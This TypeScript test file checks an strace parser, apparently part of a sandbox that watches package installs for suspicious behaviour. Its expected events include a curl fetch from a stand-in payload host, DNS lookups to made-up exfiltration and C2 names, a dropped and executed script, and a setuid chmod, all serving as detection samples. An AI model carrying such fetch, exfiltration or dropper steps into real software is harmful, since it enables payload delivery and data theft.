import { readFileSync } from 'node:fs';
import { parseStrace, StraceParser } from './strace-parser.js';
import type { TraceEvent } from './trace-events.js';
import { summarizeTrace } from './process-tree.js';

/** Traces captured from real runs (see fixtures/scripts/capture.sh). */
const fixture = (name: string): Buffer => readFileSync(new URL(`./fixtures/${name}.strace`, import.meta.url));

type Kind<K extends TraceEvent['kind']> = Extract<TraceEvent, { kind: K }>;
const of = <K extends TraceEvent['kind']>(events: TraceEvent[], kind: K): Kind<K>[] => events.filter((e): e is Kind<K> => e.kind === kind);
const files = (events: TraceEvent[], op?: string) => of(events, 'file').filter((e) => !op || e.op === op);

describe('strace parser on real traces', () => {
  it('parses every line of every fixture', () => {
    for (const name of ['net', 'proc', 'edge', 'ux', 'guest-install', 'guest-import']) {
      const { stats, events } = parseStrace(fixture(name));
      expect({ name, unparsed: stats.unparsed, unfinished: stats.unfinished }).toEqual({ name, unparsed: 0, unfinished: 0 });
      expect(stats.events).toBe(events.length);
      // Ordered: seq increases with the trace.
      for (let i = 1; i < events.length; i++) expect(events[i]!.line).toBeGreaterThanOrEqual(events[i - 1]!.line);
    }
  });

  it('decodes connects, sends and binds over IPv4, IPv6 and UNIX sockets (net.strace)', () => {
    const net = of(parseStrace(fixture('net')).events, 'net');
    const brief = net.map((e) => `${e.op} ${e.family} ${e.address}${e.port !== undefined ? `:${e.port}` : ''}${e.protocol ? `/${e.protocol}` : ''} ${e.ok ? 'ok' : e.errno}${e.dns ? ` ${e.dns.type} ${e.dns.name}` : ''}`);
    expect(brief).toEqual(expect.arrayContaining([
      'connect inet 127.0.0.1:9/tcp ECONNREFUSED',
      'connect inet6 ::1:9/tcp ECONNREFUSED',
      'connect inet 127.0.0.2:9/tcp EINPROGRESS',
      'send inet 127.0.0.1:9/udp ok',
      'connect inet 127.0.0.1:9/udp ok',
      'send inet 127.0.0.1:53/udp ok TXT c2.pyti-exfil.invalid',
      'send inet6 ::1:53/udp ok AAAA secret-data.pyti-exfil.invalid',
      'bind inet 127.0.0.1:0/tcp ok',
      'listen inet 127.0.0.1:' + net.find((e) => e.op === 'listen')!.port + '/tcp ok',
      'connect unix /tmp/pyti-trace-work/no-such.sock ENOENT',
      'connect unix @pyti-abstract ECONNREFUSED',
      // glibc's resolver: connect to the nameserver, then sendmmsg of an A and an AAAA query.
      'connect inet 127.0.0.1:53/udp ok',
      'send inet 127.0.0.1:53/udp ok A pyti-exfil.invalid',
      'send inet 127.0.0.1:53/udp ok AAAA pyti-exfil.invalid',
    ]));
    // The 600-byte payload on a connected socket to port 9 was reported at connect, not again.
    expect(net.filter((e) => e.op === 'send' && e.port === 9)).toHaveLength(1);
    expect(summarizeTrace(parseStrace(fixture('net')).events).dnsNames).toEqual(expect.arrayContaining(['c2.pyti-exfil.invalid', 'secret-data.pyti-exfil.invalid', 'pyti-exfil.invalid']));
  });

  it('builds the process tree across vfork, clone, threads, exits and signals (proc.strace)', () => {
    const { events } = parseStrace(fixture('proc'));
    const execs = of(events, 'exec').filter((e) => e.ok);
    const sh = execs.find((e) => e.argv[0] === 'sh')!;
    expect(sh.argv).toEqual(['sh', '-c', 'curl -s -m 2 http://pyti-payload.invalid/x || true']);
    const curl = execs.find((e) => e.path === '/usr/bin/curl')!;
    expect(curl.ppid).toBe(sh.pid); // curl's parent is the shell, whose parent is python
    expect(sh.ppid).toBe(execs[0]!.pid);
    // curl's resolver thread looks the name up; the lookup belongs to curl's process.
    const dns = of(events, 'net').filter((e) => e.dns);
    expect(dns.map((e) => [e.pid, e.dns!.name, e.dns!.type])).toEqual(expect.arrayContaining([[curl.pid, 'pyti-payload.invalid', 'A'], [curl.pid, 'pyti-payload.invalid', 'AAAA']]));
    // DNS over TCP (two-byte length prefix).
    expect(dns.map((e) => `${e.protocol} ${e.dns!.type} ${e.dns!.name}`)).toContain('tcp MX tcp-q.pyti-exfil.invalid');

    const exits = of(events, 'exit');
    expect(exits.filter((e) => e.signal).map((e) => e.signal)).toEqual(['SIGKILL', 'SIGSEGV']);
    expect(exits.map((e) => e.code)).toEqual(expect.arrayContaining([6, 7, 255]));
    // Thread exits are not process exits: one exit per fork plus the root.
    expect(exits).toHaveLength(of(events, 'fork').length + 1);

    // Worker threads' file and network calls are attributed to the python process.
    const threadFiles = files(events).filter((e) => /thread-\d-\d\.txt$/.test(e.path));
    expect(threadFiles).toHaveLength(40);
    expect(new Set(threadFiles.map((e) => e.pid))).toEqual(new Set([execs[0]!.pid]));

    // Long argv: strace elides elements; the event says so.
    const trueExec = execs.find((e) => e.path === '/bin/true')!;
    expect(trueExec.argvTruncated).toBe(true);
    expect(trueExec.argv.slice(0, 3)).toEqual(['/bin/true', 'arg0', 'arg1']);
    // A PATH search: failed attempts, each reported.
    expect(of(events, 'exec').filter((e) => e.argv[0] === 'pyti-no-such-program' && !e.ok && e.errno === 'ENOENT').length).toBeGreaterThan(3);

    const tree = summarizeTrace(events);
    const root = tree.processes.find((p) => p.pid === execs[0]!.pid)!;
    expect(root.children.length).toBeGreaterThanOrEqual(6);
    expect(tree.processes.find((p) => p.pid === curl.pid)).toMatchObject({ exe: '/usr/bin/curl', exitCode: 6 });
  });

  it('resolves relative paths, dir fds, renames, modes and escapes (proc.strace)', () => {
    const { events } = parseStrace(fixture('proc'));
    const s = '/tmp/pyti-trace-work/scratch';
    const brief = files(events).filter((e) => e.op !== 'read').map((e) => `${e.op} ${e.path}${e.to ? ` -> ${e.to}` : ''}${e.mode !== undefined ? ` ${e.mode.toString(8)}` : ''}${e.ok ? '' : ` ${e.errno}`}`);
    expect(brief).toEqual(expect.arrayContaining([
      `create ${s}/dropper.sh`,
      `chmod ${s}/dropper.sh 755`,
      `mkdir ${s}/sub 700`,
      `create ${s}/sub/rel.txt`,
      `rename ${s}/sub/rel.txt -> ${s}/sub/renamed.txt`,
      `create ${s}/sub/excl.txt`,
      `chmod ${s}/sub/excl.txt 640`,
      `chmod ${s}/sub/excl.txt 4755`,
      `rename ${s}/sub/excl.txt -> ${s}/sub/moved.txt`,
      `delete ${s}/sub/moved.txt`,
      `mkdir ${s}/sub/inner 755`,
      `delete ${s}/sub/inner`,
      `delete ${s}/no-such-file ENOENT`,
      `create /no/such/dir/out.txt ENOENT`,
      `create ${s}/we"ird\n\tname ) = 3, é.txt`,
      `delete ${s}/we"ird\n\tname ) = 3, é.txt`,
      `create ${s}/sub/after-chdir.txt`,
    ]));
    // The dropped script is run by a child process.
    const run = of(events, 'exec').find((e) => e.path === `${s}/dropper.sh`)!;
    expect(run.ok).toBe(true);
    expect(files(events, 'create').find((e) => e.path === `${s}/dropped.txt`)!.pid).toBe(run.pid);
    // Paths are printed whole (up to PATH_MAX), even beyond -s 512.
    const long = files(events, 'create').find((e) => e.path.endsWith('/long.txt'))!;
    expect(long.path).toBe(`${s}/${'d'.repeat(200)}/${'e'.repeat(200)}/${'f'.repeat(200)}/long.txt`);
  });

  it('handles decorations with odd characters, deleted files, netlink and sendmsg (edge.strace)', () => {
    const { events } = parseStrace(fixture('edge'));
    const s = '/tmp/pyti-trace-work/scratch';
    const chmods = files(events, 'chmod').map((e) => `${e.path} ${e.mode!.toString(8)}`);
    expect(chmods).toEqual(expect.arrayContaining([`${s}/a<b>c[d]e|f (x).txt 600`, `${s}/a<b>c[d]e|f (x).txt 644`, '/dev/null 666', `${s}/shout 700`]));
    const net = of(events, 'net');
    expect(net.some((e) => e.family === 'netlink')).toBe(false);
    expect(net.filter((e) => e.dns).map((e) => `${e.family} ${e.dns!.type} ${e.dns!.name}`)).toEqual(['inet6 ANY abc.invalid', 'inet TXT www.pyti-sendmsg.invalid']);
    // exec replaces python with sh in the same process; its children are sh's.
    const sh = of(events, 'exec').find((e) => e.path === '/bin/sh')!;
    const chmod = of(events, 'exec').find((e) => e.path === '/usr/bin/chmod')!;
    expect(chmod.ppid).toBe(sh.pid);
  });

  it('sees a real in-image pip install: venv writes, report, uname (guest-install.strace)', () => {
    const { events } = parseStrace(fixture('guest-install'));
    expect(of(events, 'exec')[0]!.argv.slice(0, 4)).toEqual(['/usr/bin/python3', '-m', 'pip', '--python']);
    expect(files(events, 'create').some((e) => e.path.startsWith('/work/data/venv/lib/python3.11/site-packages/'))).toBe(true);
    expect(files(events, 'create').some((e) => e.path === '/work/raw/install/pip-report.json')).toBe(true);
    expect(of(events, 'exec').some((e) => e.path === '/usr/bin/uname' && e.ok)).toBe(true);
    // pip binds ::1:0 to probe IPv6 support: a bind, not a connection.
    expect(of(events, 'net').every((e) => e.op === 'bind')).toBe(true);
    // The lsb_release child exited before vfork returned: announced once.
    const forks = of(events, 'fork').map((e) => e.child);
    expect(new Set(forks).size).toBe(forks.length);
  });
});

describe('strace parser on edge cases', () => {
  const collect = (chunks: (string | Buffer)[]) => {
    const events: TraceEvent[] = [];
    const p = new StraceParser((e) => events.push(e));
    for (const c of chunks) p.push(c);
    return { events, stats: p.end() };
  };

  it('gives the same events whatever the chunking', () => {
    const buf = fixture('proc');
    const whole = parseStrace(buf).events;
    const chunks: Buffer[] = [];
    for (let i = 0, n = 1; i < buf.length; i += n, n = (n * 7 + 3) % 4093 + 1) chunks.push(buf.subarray(i, i + n));
    expect(collect(chunks).events).toEqual(whole);
  });

  it('stitches unfinished calls per pid, with other pids in between', () => {
    const { events, stats } = collect([
      '100   1.000001 openat(AT_FDCWD</w>, "a.txt", O_WRONLY|O_CREAT|O_TRUNC, 0666 <unfinished ...>\n',
      '101   1.000002 unlink("/tmp/x") = 0\n',
      '100   1.000003 <... openat resumed>) = 3</w/a.txt>\n',
    ]);
    expect(stats).toMatchObject({ unparsed: 0, unfinished: 0, events: 2 });
    expect(events.map((e) => e.kind === 'file' && [e.pid, e.op, e.path, e.time, e.line])).toEqual([[101, 'delete', '/tmp/x', 1.000002, 2], [100, 'create', '/w/a.txt', 1.000001, 3]]);
  });

  it('counts junk instead of throwing, and keeps going', () => {
    const { events, stats } = collect([
      'garbage line\n',
      '12 1.0 <... openat resumed>) = 3\n', // resumed without a start
      '12 1.0 openat(AT_FDCWD, "x\n', // a cut line
      '12 1.0 connect(3<TCP:[1]>, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("127.0.0.1")}, 16) = -1 ECONNREFUSED (Connection refused)\n',
      '12 1.0 +++ exited with 0 +++\n',
      '12 1.0 execve("/bin/x", ["x"], 0x1 /* 1 var */ <unfinished ...>', // unfinished at the end, no newline
    ]);
    expect(stats).toMatchObject({ lines: 6, unparsed: 3, unfinished: 1 });
    expect(events.map((e) => e.kind)).toEqual(['net', 'exit']);
  });

  it('cuts overlong lines and caps the number of events', () => {
    const long = `1 1.0 unlink("${'a'.repeat(3000)}") = 0\n`;
    const parser = new StraceParser(() => undefined, { maxLineBytes: 1000 });
    parser.push(long.slice(0, 1500));
    parser.push(long.slice(1500));
    parser.push('1 1.0 unlink("/b") = 0\n');
    expect(parser.end()).toMatchObject({ lines: 2, unparsed: 1, events: 1 });
    const capped = parseStrace('1 1.0 unlink("/a") = 0\n'.repeat(10), { maxEvents: 4 });
    expect(capped.events).toHaveLength(4);
    expect(capped.stats.dropped).toBe(6);
  });

  it('finds the DNS server of a connected socket when the kernel gives no socket endpoints', () => {
    // net.strace's resolver lines as a kernel without sock_diag prints them: `8<UDP:[40054]>`.
    const lines = fixture('net').toString('latin1').split('\n')
      .filter((l) => /getaddrinfo|sendmmsg|connect\(8|socket\(AF_INET, SOCK_DGRAM\|SOCK_CLOEXEC\|SOCK_NONBLOCK/.test(l))
      .map((l) => l.replace(/<UDP:\[[^\]]*->[^\]]*\]>/g, '<UDP:[40054]>'));
    expect(lines.some((l) => l.includes('sendmmsg(8<UDP:[40054]>'))).toBe(true);
    const dns = of(parseStrace(lines.join('\n')).events, 'net').filter((e) => e.dns);
    expect(dns.map((e) => `${e.address}:${e.port} ${e.dns!.type} ${e.dns!.name}`)).toEqual(expect.arrayContaining([
      '127.0.0.1:53 A pyti-exfil.invalid', '127.0.0.1:53 AAAA pyti-exfil.invalid',
    ]));
    // A new socket on the same fd forgets the old peer.
    const reuse = parseStrace([
      '1 1.0 connect(8<UDP:[1]>, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.1")}, 16) = 0',
      '1 1.1 socket(AF_INET, SOCK_DGRAM|SOCK_CLOEXEC, IPPROTO_IP) = 8<UDP:[2]>',
      '1 1.2 sendto(8<UDP:[2]>, "x", 1, 0, NULL, 0) = 1',
    ].join('\n'));
    expect(of(reuse.events, 'net').map((e) => e.op)).toEqual(['connect']);
  });

  it('accepts the [pid N] prefix of strace writing to stderr', () => {
    const { events } = parseStrace('[pid   42] 5.5 mkdir("/tmp/d", 0700) = 0\n');
    expect(events).toEqual([{ seq: 0, time: 5.5, pid: 42, line: 1, kind: 'file', op: 'mkdir', path: '/tmp/d', mode: 0o700, ok: true }]);
  });
});
